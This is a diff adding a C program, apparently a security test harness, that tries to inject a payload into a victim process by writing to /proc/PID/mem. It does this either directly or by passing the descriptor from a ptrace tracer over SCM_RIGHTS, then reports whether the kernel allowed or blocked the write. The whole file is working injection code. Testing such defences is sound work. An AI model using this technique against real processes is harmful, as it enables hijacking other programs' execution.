@@ -1,0 +1,255 @@
+/* Cross-process code injection through /proc/PID/mem, run to its effect.
+ *
+ *   attack inject VICTIM    a same-uid process that is not a tracer opens
+ *                           the victim's mem file and writes the payload
+ *                           over the victim's code
+ *   attack handoff VICTIM   a tracer opens the mem file and passes the fd
+ *                           over SCM_RIGHTS to a process that is not a
+ *                           tracer, which writes the payload
+ *
+ * Victim and attackers run as uid/gid 65534.  The last line is
+ * "=> allowed ..." when the payload ran (the victim exited 42 and the
+ * marker file /tmp/compat-pwned says "pwned"), "=> blocked ..." when the
+ * write was refused and the victim was still running its own code 300 ms
+ * later (no marker), else "=> error ...". */
+#include <errno.h>
+#include <fcntl.h>
+#include <grp.h>
+#include <inttypes.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ptrace.h>
+#include <sys/socket.h>
+#include <sys/uio.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+#define MARKER "/tmp/compat-pwned"
+#define NOBODY 65534
+
+extern const unsigned char payload_start[];
+extern const unsigned long payload_size;
+
+static char why[256] = "no error seen";
+
+static void drop_privileges(void)
+{
+	if (getuid() == 0 && (setgroups(0, NULL) || setresgid(NOBODY, NOBODY, NOBODY) ||
+			      setresuid(NOBODY, NOBODY, NOBODY))) {
+		perror("attack: drop privileges");
+		exit(2);
+	}
+}
+
+/* Start the victim with its stdout on a pipe; return its pid, set *addr. */
+static pid_t spawn_victim(const char *path, uintptr_t *addr)
+{
+	int p[2];
+	char line[64];
+	FILE *f;
+	pid_t pid;
+
+	if (pipe(p)) {
+		perror("attack: pipe");
+		exit(2);
+	}
+	pid = fork();
+	if (pid < 0) {
+		perror("attack: fork");
+		exit(2);
+	}
+	if (pid == 0) {
+		drop_privileges();
+		dup2(p[1], 1);
+		close(p[0]);
+		close(p[1]);
+		execl(path, path, (char *)NULL);
+		_exit(127);
+	}
+	close(p[1]);
+	f = fdopen(p[0], "r");
+	if (!f || !fgets(line, sizeof(line), f) || sscanf(line, "%" SCNxPTR, addr) != 1) {
+		fprintf(stderr, "attack: no address from victim\n");
+		exit(2);
+	}
+	fclose(f);
+	return pid;
+}
+
+/* Write the payload at addr through fd; record why not. */
+static int write_payload(int fd, uintptr_t addr)
+{
+	size_t len = (size_t)payload_size;
+	ssize_t n = pwrite(fd, payload_start, len, (off_t)addr);
+
+	if (n == (ssize_t)len)
+		return 0;
+	snprintf(why, sizeof(why), "write: %s", n < 0 ? strerror(errno) : "short");
+	return -1;
+}
+
+static int open_mem(pid_t pid)
+{
+	char path[64];
+	int fd;
+
+	snprintf(path, sizeof(path), "/proc/%d/mem", (int)pid);
+	fd = open(path, O_RDWR);
+	if (fd < 0)
+		snprintf(why, sizeof(why), "open: %s", strerror(errno));
+	return fd;
+}
+
+static int inject(pid_t victim, uintptr_t addr)
+{
+	int fd = open_mem(victim);
+
+	if (fd < 0)
+		return -1;
+	int rc = write_payload(fd, addr);
+	close(fd);
+	return rc;
+}
+
+static void send_fd(int sock, int fd)
+{
+	char byte = 0;
+	struct iovec iov = { &byte, 1 };
+	union { struct cmsghdr h; char buf[CMSG_SPACE(sizeof(int))]; } u;
+	struct msghdr msg = { .msg_iov = &iov, .msg_iovlen = 1,
+			      .msg_control = u.buf, .msg_controllen = sizeof(u.buf) };
+	struct cmsghdr *c;
+
+	memset(&u, 0, sizeof(u));
+	c = CMSG_FIRSTHDR(&msg);
+	c->cmsg_level = SOL_SOCKET;
+	c->cmsg_type = SCM_RIGHTS;
+	c->cmsg_len = CMSG_LEN(sizeof(int));
+	memcpy(CMSG_DATA(c), &fd, sizeof(int));
+	if (sendmsg(sock, &msg, 0) != 1)
+		perror("attack: sendmsg");
+}
+
+static int recv_fd(int sock)
+{
+	char byte;
+	struct iovec iov = { &byte, 1 };
+	union { struct cmsghdr h; char buf[CMSG_SPACE(sizeof(int))]; } u;
+	struct msghdr msg = { .msg_iov = &iov, .msg_iovlen = 1,
+			      .msg_control = u.buf, .msg_controllen = sizeof(u.buf) };
+	struct cmsghdr *c;
+	int fd = -1;
+
+	if (recvmsg(sock, &msg, 0) != 1)
+		return -1;
+	c = CMSG_FIRSTHDR(&msg);
+	if (c && c->cmsg_type == SCM_RIGHTS)
+		memcpy(&fd, CMSG_DATA(c), sizeof(int));
+	return fd;
+}
+
+/* The tracer attaches and opens; a forked helper, which is not a tracer,
+ * receives the fd and writes; then the tracer lets the victim go. */
+static int handoff(pid_t victim, uintptr_t addr)
+{
+	int sv[2], st, fd;
+	pid_t writer;
+
+	if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv)) {
+		perror("attack: socketpair");
+		exit(2);
+	}
+	writer = fork();
+	if (writer == 0) {
+		close(sv[0]);
+		fd = recv_fd(sv[1]);
+		if (fd < 0) {
+			fprintf(stderr, "attack: writer got no fd\n");
+			_exit(3);
+		}
+		/* Tell the tracer how it went: "ok" or the reason. */
+		if (write_payload(fd, addr) == 0)
+			strcpy(why, "ok");
+		if (write(sv[1], why, strlen(why)) < 0)
+			_exit(1);
+		_exit(0);
+	}
+	close(sv[1]);
+	if (ptrace(PTRACE_ATTACH, victim, 0, 0) || waitpid(victim, &st, 0) != victim) {
+		snprintf(why, sizeof(why), "attach: %s", strerror(errno));
+		kill(writer, SIGKILL);
+		waitpid(writer, NULL, 0);
+		return -1;
+	}
+	fd = open_mem(victim);
+	if (fd >= 0) {
+		char said[sizeof(why)] = "";
+
+		send_fd(sv[0], fd);
+		close(fd);
+		if (read(sv[0], said, sizeof(said) - 1) <= 0)
+			strcpy(said, "writer said nothing");
+		snprintf(why, sizeof(why), "%s%s", strcmp(said, "ok") ? "writer's " : "", said);
+	} else {
+		kill(writer, SIGKILL);
+	}
+	close(sv[0]);
+	waitpid(writer, &st, 0);
+	ptrace(PTRACE_DETACH, victim, 0, 0);
+	return fd >= 0 && strcmp(why, "ok") == 0 ? 0 : -1;
+}
+
+static int marker_says_pwned(void)
+{
+	char buf[16] = "";
+	int fd = open(MARKER, O_RDONLY);
+
+	if (fd < 0)
+		return 0;
+	ssize_t n = read(fd, buf, sizeof(buf) - 1);
+	close(fd);
+	return n > 0 && strcmp(buf, "pwned\n") == 0;
+}
+
+int main(int argc, char **argv)
+{
+	uintptr_t addr;
+	pid_t victim;
+	int st, rc;
+
+	if (argc != 3 || (strcmp(argv[1], "inject") && strcmp(argv[1], "handoff"))) {
+		fprintf(stderr, "usage: attack inject|handoff VICTIM\n");
+		return 2;
+	}
+	if (unlink(MARKER) && errno != ENOENT) {
+		perror("attack: " MARKER);
+		return 2;
+	}
+	victim = spawn_victim(argv[2], &addr);
+	drop_privileges();
+	rc = strcmp(argv[1], "inject") ? handoff(victim, addr) : inject(victim, addr);
+	if (rc == 0) {
+		snprintf(why, sizeof(why), "payload written at %#" PRIxPTR, addr);
+	} else {
+		/* Refused: let the victim tick a while longer, then stop it.  It
+		 * must still be alive (killed by our SIGTERM), with no marker. */
+		const struct timespec pause = { 0, 300 * 1000 * 1000 };
+
+		nanosleep(&pause, NULL);
+		kill(victim, SIGTERM);
+	}
+	if (waitpid(victim, &st, 0) != victim) {
+		perror("attack: waitpid");
+		return 2;
+	}
+	if (WIFEXITED(st) && WEXITSTATUS(st) == 42 && marker_says_pwned())
+		printf("=> allowed: payload ran in the victim (%s)\n", why);
+	else if (WIFSIGNALED(st) && WTERMSIG(st) == SIGTERM && rc && !marker_says_pwned())
+		printf("=> blocked: %s\n", why);
+	else
+		printf("=> error: victim status %#x, %s\n", st, why);
+	return 0;
+}
